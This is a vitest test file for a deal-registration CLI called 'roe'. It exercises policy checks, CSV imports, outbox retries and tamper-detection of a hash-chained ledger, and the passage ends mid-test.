import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { EXAMPLE_POLICY_PATH, ROOT, policyTextWith } from '../support/builders.js';
import { consoleOrigin, openArbitratedCase } from '../support/cases.js';
import { as, testRuntime } from '../support/runtime.js';
import { submitClaim } from '../../handlers/claim.js';
import { submitAward } from '../../handlers/rule.js';
import { main } from '../../src/app/cli.js';
import { tick } from '../../src/app/scheduler.js';

/** A date `n` days before (or, negative, after) today, as a CSV or policy file writes it: the CLI runs on the real clock. */
const daysAgo = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString().slice(0, 10);

const dir = mkdtempSync(join(tmpdir(), 'roe-cli-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** `npx roe …` exactly as an admin types it. */
function roe(args: string[], db = join(dir, 'cli.db'), env: Record<string, string> = {}) {
  const r = spawnSync(join(ROOT, 'bin/roe.js'), args, { cwd: ROOT, encoding: 'utf8', env: { PATH: process.env.PATH, DATABASE_PATH: db, LOG_LEVEL: 'warn', ...env }, timeout: 60_000 });
  return { out: r.stdout, err: r.stderr, code: r.status };
}

/**
 * `roe …` called in this process, for what a command says rather than what the process does:
 * what it writes on stdout and stderr (its log lines, written to process.stderr, included) and its
 * exit code, as {@link roe} gives them, without starting Node for each command.
 */
async function roeHere(args: string[], db = join(dir, 'cli.db'), env: Record<string, string> = {}) {
  const out: string[] = [];
  const err: string[] = [];
  const stderr = vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => {
    err.push(String(chunk));
    return true;
  });
  try {
    const code = await main(args, { out: (s) => out.push(`${s}\n`), err: (s) => err.push(`${s}\n`), env: { DATABASE_PATH: db, LOG_LEVEL: 'warn', ...env }, stdin: process.stdin, stdout: process.stdout });
    return { out: out.join(''), err: err.join(''), code };
  } finally {
    stderr.mockRestore();
  }
}

describe('roe CLI', () => {
  it('policy check accepts the example and names every problem of a bad file', () => {
    expect(roe(['policy', 'check', EXAMPLE_POLICY_PATH])).toMatchObject({ code: 0, out: expect.stringContaining('valid (version 2026.1') });
    const bad = join(dir, 'bad.yaml');
    writeFileSync(bad, policyTextWith([['arbitrator: pat, escalation: [dana, vp]', 'arbitrator: robin, escalation: [dana, vp]']]));
    const r = roe(['policy', 'check', bad]);
    expect(r.code).toBe(1);
    expect(r.err).toContain('coverage[2].arbitrator: unknown person "robin"');
    expect(roe(['policy', 'check', join(dir, 'missing.yaml')]).err).toMatch(/missing\.yaml: cannot read the file \(no such file\)/);
  });

  it('commands that only read write nothing: not the configured policy either, even one that clashes with a stored version', () => {
    const db = join(dir, 'readonly.db');
    testRuntime({ databasePath: db }).close();
    const clash = join(dir, 'clash.yaml');
    writeFileSync(clash, policyTextWith([['protection_days: 90', 'protection_days: 60']]));
    const next = join(dir, 'next.yaml');
    writeFileSync(next, policyTextWith([['version: "2026.1"', 'version: "2026.9"']]));
    const versions = () => {
      const sq = new Database(db, { readonly: true });
      try {
        return (sq.prepare('select version from policy_versions order by version').all() as { version: string }[]).map((r) => r.version);
      } finally {
        sq.close();
      }
    };
    expect(versions()).toEqual(['2026.1']);
    for (const policy of [clash, next]) {
      expect(roe(['ledger', 'verify'], db, { ROE_POLICY: policy })).toMatchObject({ code: 0, out: expect.stringContaining('ledger OK') });
      expect(roe(['stats', '--format', 'json'], db, { ROE_POLICY: policy }).code).toBe(0);
      expect(roe(['outbox'], db, { ROE_POLICY: policy }).code).toBe(0);
      // Nor those that change data without judging claims: an erasure is never blocked by a policy file.
      expect(roe(['outbox', 'retry', '--all'], db, { ROE_POLICY: policy })).toMatchObject({ code: 0, out: 'no parked message to retry\n' });
      expect(roe(['forget', 'slack:U0NOBODY'], db, { ROE_POLICY: policy })).toMatchObject({ code: 1, err: 'nothing is known of slack:U0NOBODY\n' });
      expect(roe(['backup', join(dir, `readonly-backup-${policy === clash ? 'clash' : 'next'}.db`)], db, { ROE_POLICY: policy }).code).toBe(0);
    }
    expect(versions()).toEqual(['2026.1']);
  });

  it('ledger export writes every entry as read: JSON exactly as one array, CSV with one header, past its batches of a thousand', () => {
    const db = join(dir, 'export-big.db');
    const rt = testRuntime({ databasePath: db });
    rt.store.transaction(() => {
      for (let i = 0; i < 2500; i++) rt.store.ledger.append({ at: rt.clock.now(), kind: 'note', subject: `note:${i}`, actor: 'test', policyVersion: null, payload: { i, text: i % 2 ? '=SUM(A1)' : 'plain' } });
    });
    const entries = [...rt.store.ledger.entries()];
    rt.close();
    expect(roe(['ledger', 'export'], db).out).toBe(`${JSON.stringify(entries, null, 2)}\n`);
    const rows = parse(roe(['ledger', 'export', '--format', 'csv'], db).out, { columns: true }) as { seq: string; payload: string }[];
    expect(rows.map((r) => Number(r.seq))).toEqual(entries.map((e) => e.seq));
    expect(rows.filter((r) => r.payload.includes('=SUM'))).toHaveLength(1250);
  });

  it('outbox retry takes a message id in digits only', () => {
    const db = join(dir, 'retry-ids.db');
    testRuntime({ databasePath: db }).close();
    for (const bad of ['0x10', '1e3', '0', '#', '1.5']) expect(roe(['outbox', 'retry', bad], db)).toMatchObject({ code: 2, err: expect.stringContaining(`"${bad}" is not a message id`) });
    expect(roe(['outbox', 'retry', '#16'], db)).toMatchObject({ code: 1, err: 'no parked message #16 to retry\n' });
  });

  it("warns on importing a partner whose Slack team or Teams tenant the configuration names as the company's (its people would be colleagues)", () => {
    const db = join(dir, 'named-internal.db');
    const env = { SLACK_BOT_TOKEN: 'xoxb-1', SLACK_SIGNING_SECRET: 's', SLACK_INTERNAL_TEAM_IDS: 'T0EMEA,T0CONTOSO', MICROSOFT_APP_TENANT_ID: '5B1F3C1E-0000-4000-8000-00000000A003' };
    const partners = join(ROOT, 'examples/partners.csv');
    const r = roe(['import', 'partners', partners], db, env);
    expect(r.code).toBe(0);
    expect(r.err.split('\n').filter(Boolean)).toEqual([
      `${partners}: warning: partner "contoso": its slack_team_id T0CONTOSO is your company's (SLACK_INTERNAL_TEAM_IDS), so its people count as your colleagues and see every partner's deals, not as contoso's: correct one or the other`,
      `${partners}: warning: partner "fabrikam": its teams_tenant_id 5b1f3c1e-0000-4000-8000-00000000a003 is your company's (MICROSOFT_APP_TENANT_ID), so its people count as your colleagues and see every partner's deals, not as fabrikam's: correct one or the other`,
    ]);
    // Nothing to say without such a configuration.
    expect(roe(['import', 'partners', partners], db).err).toBe('');
  });

  it('imports CSV files, reports bad rows by line, and updates on re-import', () => {
    const db = join(dir, 'import.db');
    expect(roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db)).toMatchObject({ code: 0, out: expect.stringContaining('3 partners added, 0 updated') });
    expect(roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db)).toMatchObject({ code: 0, out: expect.stringContaining('10 accounts added') });
    expect(roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db)).toMatchObject({ code: 0, out: expect.stringContaining('0 accounts added, 0 updated, 10 unchanged') });
    const bad = join(dir, 'bad.csv');
    writeFileSync(bad, 'id,name,tier\nok,Fine,\n,Nameless,\nx,,gold\n');
    const r = roe(['import', 'partners', bad], db);
    expect(r.code).toBe(1);
    expect(r.err).toContain('2 problems, nothing imported');
    expect(r.err).toContain('line 3: id: is required');
    expect(r.err).toContain('line 4: name: is required');
  });

  it('an import it refuses leaves the new ROE_POLICY version unrecorded, so the draft can still be changed; one it takes records it', () => {
    const db = join(dir, 'import-policy.db');
    expect(roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db).code).toBe(0);
    const draft = (days: number) => {
      const file = join(dir, `draft-${days}.yaml`);
      writeFileSync(file, policyTextWith([['version: "2026.1"', 'version: "2026.2"'], ['effective: 2026-01-01', `effective: ${daysAgo(-14)}`], ['protection_days: 90', `protection_days: ${days}`]]));
      return file;
    };
    const stored = () => {
      const sq = new Database(db, { readonly: true });
      try {
        return {
          versions: (sq.prepare('select version from policy_versions order by version').all() as { version: string }[]).map((r) => r.version),
          timers: (sq.prepare("select subject from timers where kind = 'policy.effective'").all() as { subject: string }[]).map((r) => r.subject),
        };
      } finally {
        sq.close();
      }
    };
    const dup = join(dir, 'dup.csv');
    writeFileSync(dup, 'id,name\ndup1,One\ndup1,Again\n');
    const refused = roe(['import', 'accounts', dup], db, { ROE_POLICY: draft(60) });
    expect(refused).toMatchObject({ code: 1, err: expect.stringContaining('line 3: id "dup1" repeats line 2') });
    expect(stored()).toEqual({ versions: ['2026.1'], timers: [] });
    // The draft, changed, is taken with the next import, and its timer with it.
    expect(roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db, { ROE_POLICY: draft(45) })).toMatchObject({ code: 0, out: expect.stringContaining('10 accounts added') });
    expect(stored()).toEqual({ versions: ['2026.1', '2026.2'], timers: ['policy:2026.2'] });
    // A clash is still refused before anything is read.
    expect(roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db, { ROE_POLICY: draft(60) })).toMatchObject({ code: 1, err: expect.stringContaining('version: "2026.2" was already loaded on') });
  });

  it('an import that records a new ROE_POLICY version says so, even when no row changed; the same file again says nothing more', () => {
    const db = join(dir, 'import-new-version.db');
    const partners = join(ROOT, 'examples/partners.csv');
    expect(roe(['import', 'partners', partners], db)).toMatchObject({ code: 0, out: `${partners}: 3 partners added, 0 updated\n` });
    // Another arbitrator for the Default coverage, in force since a date already past.
    const next = join(dir, 'new-arbitrator.yaml');
    writeFileSync(next, policyTextWith([['version: "2026.1"', 'version: "2026.2"'], ['effective: 2026-01-01', 'effective: 2026-06-01'], ['arbitrator: pat, escalation: [dana, vp]', 'arbitrator: sam, escalation: [dana, vp]']]));
    expect(roe(['import', 'partners', partners], db, { ROE_POLICY: next })).toEqual({
      code: 0,
      out: `${partners}: 0 partners added, 0 updated, 3 unchanged\n${next}: policy version "2026.2" recorded, effective 2026-06-01 (in force now: a running bot takes it in within 10 seconds)\n`,
      err: '',
    });
    expect(roe(['import', 'partners', partners], db, { ROE_POLICY: next })).toEqual({ code: 0, out: `${partners}: 0 partners added, 0 updated, 3 unchanged\n`, err: '' });
    // One dated ahead is in force from its date.
    const ahead = join(dir, 'ahead.yaml');
    writeFileSync(ahead, policyTextWith([['version: "2026.1"', 'version: "2099.1"'], ['effective: 2026-01-01', 'effective: 2099-01-01']]));
    expect(roe(['import', 'partners', partners], db, { ROE_POLICY: ahead }).out).toBe(`${partners}: 0 partners added, 0 updated, 3 unchanged\n${ahead}: policy version "2099.1" recorded, effective 2099-01-01 (in force from that day)\n`);
  });

  it('an import that records a version dropping a product line live claims still hold warns of it', () => {
    const db = join(dir, 'import-dropped-line.db');
    for (const kind of ['partners', 'accounts']) expect(roe(['import', kind, join(ROOT, `examples/${kind}.csv`)], db).code).toBe(0);
    // Wayne (Services) is held by the direct team's claim, registered yesterday: protected for 90 days.
    const claims = join(dir, 'dropped-line-claims.csv');
    const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 19) + 'Z';
    writeFileSync(claims, `id,account_id,claimant,route,product_line,opportunity,stage,amount,evidence,status,registered_at,last_activity_at\nCRM-1,wayne,direct,direct,Services,Wayne renewal,negotiation,30000,,protected,${yesterday},${yesterday}\n`);
    expect(roe(['import', 'claims', claims], db)).toMatchObject({ code: 0 });
    const next = join(dir, 'no-services.yaml');
    writeFileSync(next, policyTextWith([['version: "2026.1"', 'version: "2026.2"'], ['effective: 2026-01-01', 'effective: 2026-12-01'], ['product_lines: [Core Platform, Analytics, Services]', 'product_lines: [Core Platform, Analytics, Professional Services]']]));
    const r = roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db, { ROE_POLICY: next });
    expect(r.code).toBe(0);
    expect(r.out).toContain('policy version "2026.2" recorded');
    expect(r.err).toMatch(/warning: policy version "2026\.2" has no product line "Services", yet 1 live claim \(on 1 account\) is on it/);
  });

  it('policy check with DATABASE_PATH set checks the file as loading it there would, and warns of what it leaves behind, writing nothing', () => {
    const db = join(dir, 'check-against.db');
    // No database there yet: the file alone.
    expect(roe(['policy', 'check', EXAMPLE_POLICY_PATH], db)).toMatchObject({ code: 0, out: expect.stringContaining('valid (version 2026.1'), err: expect.stringContaining(`no database at ${db}, so the file is checked alone`) });
    for (const kind of ['partners', 'accounts']) expect(roe(['import', kind, join(ROOT, `examples/${kind}.csv`)], db).code).toBe(0);
    const claims = join(dir, 'check-against-claims.csv');
    const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 19) + 'Z';
    writeFileSync(claims, `id,account_id,claimant,route,product_line,opportunity,stage,amount,evidence,status,registered_at,last_activity_at\nCRM-1,wayne,direct,direct,Services,Wayne renewal,negotiation,30000,,protected,${yesterday},${yesterday}\n`);
    expect(roe(['import', 'claims', claims], db).code).toBe(0);
    const versions = () => {
      const sq = new Database(db, { readonly: true });
      try {
        return (sq.prepare('select version from policy_versions order by version').all() as { version: string }[]).map((r) => r.version);
      } finally {
        sq.close();
      }
    };
    // A version that drops Services, which the direct team's claim holds: valid, with the warning.
    const next = join(dir, 'check-no-services.yaml');
    writeFileSync(next, policyTextWith([['version: "2026.1"', 'version: "2026.2"'], ['effective: 2026-01-01', 'effective: 2026-12-01'], ['product_lines: [Core Platform, Analytics, Services]', 'product_lines: [Core Platform, Analytics]']]));
    const r = roe(['policy', 'check', next], db);
    expect(r).toMatchObject({ code: 0, out: expect.stringContaining('valid (version 2026.2') });
    expect(r.err).toMatch(new RegExp(`${next.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: warning: policy version "2026\\.2" has no product line "Services", yet 1 live claim \\(on 1 account\\) is on it`));
    expect(versions()).toEqual(['2026.1']);
    // The example's version with other rules is refused, as the start would refuse it.
    const clash = join(dir, 'check-clash.yaml');
    writeFileSync(clash, policyTextWith([['arbitrator: pat, escalation: [dana, vp]', 'arbitrator: sam, escalation: [dana, vp]']]));
    expect(roe(['policy', 'check', clash], db)).toMatchObject({ code: 1, err: expect.stringContaining('version: "2026.1" was already loaded on') });
    // The example itself, loaded already, is valid with nothing to say.
    expect(roe(['policy', 'check', EXAMPLE_POLICY_PATH], db)).toMatchObject({ code: 0, err: '' });
  });

  it('policy check with a DATABASE_PATH that is a folder, an empty file or an empty SQLite database: one line, and the file is left as it was', () => {
    const valid = expect.stringContaining('valid (version 2026.1');
    const folder = join(dir, 'check-folder.db');
    mkdirSync(folder);
    expect(roe(['policy', 'check', EXAMPLE_POLICY_PATH], folder)).toEqual({ code: 1, out: '', err: `DATABASE_PATH: cannot open ${folder} (it is a directory)\n` });
    expect(readdirSync(folder)).toEqual([]);
    // An empty file is no database yet, as a missing one: checking against it must not make it one.
    const empty = join(dir, 'check-empty.db');
    writeFileSync(empty, '');
    expect(roe(['policy', 'check', EXAMPLE_POLICY_PATH], empty)).toEqual({ code: 0, out: valid, err: `DATABASE_PATH: ${empty} is empty (no roe database yet), so the file is checked alone\n` });
    expect(readFileSync(empty).length).toBe(0);
    const noTables = join(dir, 'check-no-tables.db');
    const sq = new Database(noTables);
    sq.pragma('user_version = 7');
    sq.close();
    const before = readFileSync(noTables);
    expect(roe(['policy', 'check', EXAMPLE_POLICY_PATH], noTables)).toEqual({ code: 0, out: valid, err: `DATABASE_PATH: ${noTables} is empty (no roe database yet), so the file is checked alone\n` });
    expect(readFileSync(noTables).equals(before)).toBe(true);
    expect(readdirSync(dir).filter((f) => f.startsWith('check-') && /-(wal|shm|journal)$/.test(f))).toEqual([]);
  });

  it('a ROE_POLICY of an older version than the one in force is told to point at the file of the version in force, not to change its loaded date', () => {
    const db = join(dir, 'stale-policy.db');
    const partners = join(ROOT, 'examples/partners.csv');
    roe(['import', 'partners', partners], db);
    const next = join(dir, 'stale-next.yaml');
    writeFileSync(next, policyTextWith([['version: "2026.1"', 'version: "2026.2"'], ['effective: 2026-01-01', 'effective: 2026-06-01']]));
    expect(roe(['import', 'partners', partners], db, { ROE_POLICY: next }).code).toBe(0);
    // The example file again (ROE_POLICY unset in this shell): version 2026.1, loaded before, whose date cannot change.
    const r = roe(['import', 'partners', partners], db, { ROE_POLICY: EXAMPLE_POLICY_PATH });
    expect(r.code).toBe(0);
    expect(r.err).toContain(`roe: warning: ${EXAMPLE_POLICY_PATH} holds policy version "2026.1" (effective 2026-01-01), an older version than "2026.2" (effective 2026-06-01), which is in force: set ROE_POLICY to the file of version "2026.2" (to change the rules, give a copy of it a new version, effective 2026-06-01 or later)`);
    expect(r.err).not.toContain('give the file an effective date');
  });

  it('an import refuses a ROE_POLICY version dated before one loaded earlier (it would never be in force), and records nothing', () => {
    const db = join(dir, 'dated-before.db');
    testRuntime({ databasePath: db }).close();
    const before = join(dir, 'dated-before.yaml');
    writeFileSync(before, policyTextWith([['version: "2026.1"', 'version: "2026.2"'], ['effective: 2026-01-01', 'effective: 2025-06-01'], ['protection_days: 90', 'protection_days: 60']]));
    const r = roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db, { ROE_POLICY: before });
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/effective: version "2026\.2" is effective 2025-06-01, before version "2026\.1" \(effective 2026-01-01\), loaded earlier: a version applies from its effective date, so this one would never be in force; give it the effective date of that one or later/);
    const sq = new Database(db, { readonly: true });
    try {
      expect(sq.prepare('select version from policy_versions').pluck().all()).toEqual(['2026.1']);
    } finally {
      sq.close();
    }
  });

  it('the policy file\'s warnings are said by what records it (policy check, an import), never by the commands that only read', async () => {
    const db = join(dir, 'policy-warnings.db');
    testRuntime({ databasePath: db }).close();
    // The same database, for an import in this process (the one below records the version in the first).
    const copy = join(dir, 'policy-warnings-copy.db');
    testRuntime({ databasePath: copy }).close();
    const warned = join(dir, 'dormant-late.yaml');
    writeFileSync(warned, policyTextWith([['version: "2026.1"', 'version: "2026.2"'], ['dormant_after_days: 30', 'dormant_after_days: 120']]));
    // A version dated before the one in force: the start says it is never in force.
    const shadowed = join(dir, 'shadowed.yaml');
    writeFileSync(shadowed, policyTextWith([['version: "2026.1"', 'version: "2025.9"'], ['effective: 2026-01-01', 'effective: 2025-06-01']]));
    for (const policy of [warned, shadowed]) {
      const env = { ROE_POLICY: policy };
      // As an admin types it: the process, from its start to its exit, says nothing on stderr.
      expect(roe(['ledger', 'verify'], db, env), `ledger verify with ${policy}`).toMatchObject({ code: 0, err: '' });
      // Each command that only reads, called here: no Node started for each (the test is of what it says).
      for (const args of [['ledger', 'verify'], ['ledger', 'export', '--format', 'csv'], ['stats'], ['stats', '--format', 'json'], ['outbox'], ['outbox', 'retry', '--all'], ['timers'], ['timers', 'retry', '--all'], ['backup', join(dir, `policy-warnings-${policy === warned ? 'w' : 's'}.db`)]]) {
        expect(await roeHere(args, db, env), `${args.join(' ')} with ${policy}`).toMatchObject({ code: 0, err: '' });
      }
      expect(await roeHere(['forget', 'slack:U0NOBODY'], db, env)).toEqual({ code: 1, out: '', err: 'nothing is known of slack:U0NOBODY\n' });
      expect(await roeHere(['export', '--partner', 'nobody'], db, env)).toMatchObject({ code: 1, err: expect.not.stringContaining('warning') });
    }
    expect(roe(['policy', 'check', warned])).toMatchObject({ code: 0, err: expect.stringContaining('registration.dormant_after_days: 120 is not less than protection_days (90)') });
    // An import records the version, and says what it records it with: called here too, which
    // shows that a warning logged by a command called here is seen (the reads above say none).
    const here = await roeHere(['import', 'partners', join(ROOT, 'examples/partners.csv')], copy, { ROE_POLICY: warned });
    expect(here.code).toBe(0);
    expect(here.err).toMatch(/^roe: warning: .*registration\.dormant_after_days: 120 is not less than protection_days \(90\)/m);
    const r = roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db, { ROE_POLICY: warned });
    expect(r.code).toBe(0);
    expect(r.err).toMatch(/^roe: warning: .*registration\.dormant_after_days: 120 is not less than protection_days \(90\)/m);
  });

  it('a ROE_POLICY file that is not valid stops no command that judges no claim: they use the stored versions, and say so', () => {
    const db = join(dir, 'broken-policy.db');
    testRuntime({ databasePath: db }).close();
    const broken = join(dir, 'broken.yaml');
    writeFileSync(broken, policyTextWith([['protection_days: 90', 'protection_days: ninety']]));
    const env = { ROE_POLICY: broken };
    for (const args of [['ledger', 'verify'], ['stats'], ['outbox'], ['timers'], ['forget', 'slack:U0NOBODY']]) {
      const r = roe(args, db, env);
      expect(r.err, args.join(' ')).toContain('ROE_POLICY is not valid, so the versions stored in the database are used');
      expect(r.err).toContain('registration.protection_days: expected a number');
      // Said to a person at a terminal: a line of text, not a JSON log record.
      expect(r.err, args.join(' ')).toMatch(/^roe: warning: ROE_POLICY is not valid, so the versions stored in the database are used: .*registration\.protection_days: expected a number/m);
      expect(r.err, args.join(' ')).not.toMatch(/^\{/m);
      expect(r.code, args.join(' ')).toBe(args[0] === 'forget' ? 1 : 0);
    }
    // A backup copies the file and reads no policy: it has nothing to say of one.
    expect(roe(['backup', join(dir, 'broken-policy-backup.db')], db, env)).toMatchObject({ code: 0, err: '' });
    // What records it, or judges claims by it, still refuses it.
    const r = roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db, env);
    expect(r.code).toBe(1);
    expect(r.err).toContain('registration.protection_days: expected a number');
  });

  it('refuses a file that is not UTF-8, naming the file and the line; accepts a UTF-8 byte order mark', () => {
    const db = join(dir, 'encoding.db');
    const latin1 = join(dir, 'latin1.csv');
    writeFileSync(latin1, Buffer.from('id,name\nok,Fine\ncafe,Caf\xe9\n', 'latin1'));
    const r = roe(['import', 'partners', latin1], db);
    expect(r.code).toBe(1);
    expect(r.err).toContain(`${latin1}: 1 problem, nothing imported:\n  line 3: the file is not valid UTF-8`);
    expect(r.err).toContain('save it as UTF-8');
    const bom = join(dir, 'bom.csv');
    writeFileSync(bom, '\uFEFFid,name\ncafe,Caf\u00e9\n');
    expect(roe(['import', 'partners', bom], db)).toMatchObject({ code: 0, out: `${bom}: 1 partner added, 0 updated\n` });
  });

  it('skips the blank rows Excel leaves of cleared rows, and refuses a quote inside an unquoted value in one line saying how to write it', () => {
    const db = join(dir, 'excel.db');
    const cleared = join(dir, 'cleared.csv');
    writeFileSync(cleared, 'id,name,tier\r\nalpha,Alpha,gold\r\n,,\r\n,,\r\nbeta,Beta,\r\n');
    expect(roe(['import', 'partners', cleared], db)).toMatchObject({ code: 0, out: `${cleared}: 2 partners added, 0 updated\n` });
    const quoted = join(dir, 'quoted.csv');
    writeFileSync(quoted, 'id,name,tier\r\nalpha,Alpha,gold\r\n,,\r\nzeta,Zeta "The Best" Corp,\r\n');
    expect(roe(['import', 'partners', quoted], db)).toEqual({
      code: 1,
      out: '',
      err: `${quoted}: 1 problem, nothing imported:\n  line 4: name: Zeta "The Best" Corp has a quote inside but is not in double quotes; write it as "Zeta ""The Best"" Corp" (the value in double quotes, each quote inside it doubled)\n`,
    });
  });

  it('an imported pending claim is put in a case: the report says which, in the singular for one, and the arbitrator’s card waits in the outbox', () => {
    const db = join(dir, 'pending.db');
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db);
    roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db);
    const claims = join(dir, 'pending.csv');
    writeFileSync(claims, `id,account_id,claimant,route,product_line,opportunity,stage,amount,evidence,status,registered_at,last_activity_at\nP1,soylent,contoso,resell,Analytics,Soylent deal,qualified,,,pending,${daysAgo(10)},\n`);
    // Alone on its line, the claim waits for approval: the report (for the operator, one of the company's people) says so.
    expect(roe(['import', 'claims', claims], db)).toEqual({ code: 0, out: `${claims}: 1 claim added, 0 updated; 1 pending claim waits for approval in case #1\n`, err: '' });
    const queued = roe(['outbox'], db).out;
    // No chat platform configured: the card is for the console, where `npm start` shows it (the claim alone on its line waits for approval).
    expect(queued).toMatch(/#\d+ pending console \{"kind":"user","user":"pat"\}.*\n {4}Approval of claim #\d+ \(case #1\) on Soylent Corp \(Analytics\): yours to approve or reject by /);
    // The same file again: the claim is in its case already, so nothing more is opened or sent.
    expect(roe(['import', 'claims', claims], db)).toEqual({ code: 0, out: `${claims}: 0 claims added, 0 updated, 1 unchanged\n`, err: '' });
    expect(roe(['outbox'], db).out).toBe(queued);
    // Where Slack is configured, the case an import opens is told in Slack, to the arbitrator's Slack user.
    const slackDb = join(dir, 'pending-slack.db');
    const slack = { SLACK_BOT_TOKEN: 'xoxb-0000-test', SLACK_SIGNING_SECRET: 'test-secret' };
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], slackDb, slack);
    roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], slackDb, slack);
    expect(roe(['import', 'claims', claims], slackDb, slack).code).toBe(0);
    expect(roe(['outbox'], slackDb, slack).out).toMatch(/#\d+ pending slack \{"kind":"user","user":"U0PAT"\}.*\n {4}Approval of claim #\d+ \(case #1\) on Soylent Corp \(Analytics\): yours to approve or reject by /);
  });

  it('an import putting pending claims in disputes and others in approvals says which waits for what', () => {
    const db = join(dir, 'pending-both.db');
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db);
    roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db);
    const claims = join(dir, 'pending-both.csv');
    const header = 'id,account_id,claimant,route,product_line,opportunity,stage,amount,evidence,status,registered_at,last_activity_at';
    // Soylent: Contoso's claim alone on its line (an approval). Initech: Contoso's against Northwind's protected one (a dispute).
    // Dated from today (the CLI's real clock): Northwind's claim must still be protected, not dormant, when Contoso's is weighed against it.
    const rows = [`P1,soylent,contoso,resell,Analytics,Soylent deal,qualified,,,pending,${daysAgo(10)},`, `Q1,initech,northwind,resell,Analytics,Initech deal,proposal,,,protected,${daysAgo(10)},`, `Q2,initech,contoso,resell,Analytics,Initech deal,qualified,,,pending,${daysAgo(9)},`];
    writeFileSync(claims, [header, ...rows].join('\n') + '\n');
    expect(roe(['import', 'claims', claims], db)).toEqual({ code: 0, out: `${claims}: 3 claims added, 0 updated; 1 pending claim put in dispute #2; 1 pending claim waits for approval in case #1\n`, err: '' });
  });

  it('ledger verify passes, then names the first tampered entry and exits 1', () => {
    const db = join(dir, 'ledger.db');
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db);
    roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db);
    roe(['import', 'claims', join(ROOT, 'examples/claims.csv')], db);
    expect(roe(['ledger', 'verify'], db)).toMatchObject({ code: 0, out: expect.stringMatching(/ledger OK: 6 entries/) });
    const json = JSON.parse(roe(['ledger', 'export', '--format', 'json'], db).out) as { seq: number; kind: string; subject: string; payload: { sourceHash?: string } }[];
    // The policy version the first import recorded is an entry too, with the hash of its file.
    expect(json.map((e) => e.kind)).toEqual(['policy.recorded', 'import.partners', 'import.accounts', 'claim.imported', 'claim.imported', 'claim.imported']);
    expect(json[0]).toMatchObject({ subject: 'policy:2026.1', payload: { sourceHash: createHash('sha256').update(readFileSync(join(ROOT, 'examples/policy.yaml'))).digest('hex') } });
    const csv = roe(['ledger', 'export', '--format', 'csv'], db).out.trim().split('\n');
    expect(csv[0]).toBe('seq,at,kind,subject,actor,policyVersion,payload,prevHash,hash');
    expect(csv).toHaveLength(7);
    const sqlite = new Database(db);
    sqlite.exec('drop trigger ledger_no_update');
    sqlite.prepare("update ledger set actor = 'someone-else' where seq = 5").run();
    sqlite.close();
    const r = roe(['ledger', 'verify'], db);
    expect(r.code).toBe(1);
    expect(r.err).toContain('ledger BROKEN at entry 5');
  });

  it('ledger verify finds a policy version whose stored rules were changed since its entry recorded them', () => {
    const db = join(dir, 'ledger-policy.db');
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db);
    expect(roe(['ledger', 'verify'], db)).toMatchObject({ code: 0, out: expect.stringContaining('ledger OK: 2 entries') });
    // Someone with the file gives every partner 365 days of protection under the version claims name.
    const sqlite = new Database(db);
    sqlite.prepare("update policy_versions set body = replace(body, 'protection_days: 90', 'protection_days: 365')").run();
    sqlite.close();
    expect(roe(['ledger', 'verify'], db)).toEqual({ code: 1, out: '', err: 'ledger BROKEN: policy version "2026.1" as stored in the database is not the file its entry 1 recorded (its rules were changed since)\n' });
  });

  it('ledger verify --head checks that the ledger still holds a head printed earlier: entries removed from the end are found', () => {
    const db = join(dir, 'ledger-head.db');
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db);
    roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db);
    const kept = /head ([0-9a-f]{16})$/.exec(roe(['ledger', 'verify'], db).out.trim())![1]!;
    roe(['import', 'claims', join(ROOT, 'examples/claims.csv')], db);
    expect(roe(['ledger', 'verify', '--head', kept], db)).toMatchObject({ code: 0, out: expect.stringMatching(/^ledger OK: 6 entries, head [0-9a-f]{16}; the head kept earlier is entry 3, and every entry up to it is unchanged\n$/) });
    // Someone with the file drops the triggers and deletes the last entries, the kept one among them.
    const sqlite = new Database(db);
    sqlite.exec('drop trigger ledger_no_delete');
    sqlite.prepare('delete from ledger where seq >= 2').run();
    sqlite.close();
    // What is left verifies among itself; the kept head says what is missing.
    expect(roe(['ledger', 'verify'], db)).toMatchObject({ code: 0, out: expect.stringContaining('ledger OK: 1 entry') });
    expect(roe(['ledger', 'verify', '--head', kept], db)).toMatchObject({ code: 1, err: `ledger BROKEN: no entry has the head ${kept} kept earlier: entries were removed or written again since it was printed, or this database is a copy older than that head (the 1 entry there now verifies)\n` });
    expect(roe(['ledger', 'verify', '--head', kept.slice(0, 8)], db)).toMatchObject({ code: 2, err: expect.stringContaining(`--head takes the head a verify printed: 16 to 64 hex digits (got "${kept.slice(0, 8)}")`) });
    // Every entry removed: said as such, not as "0 entries" that "verify among themselves".
    const emptied = new Database(db);
    emptied.prepare('delete from ledger').run();
    emptied.close();
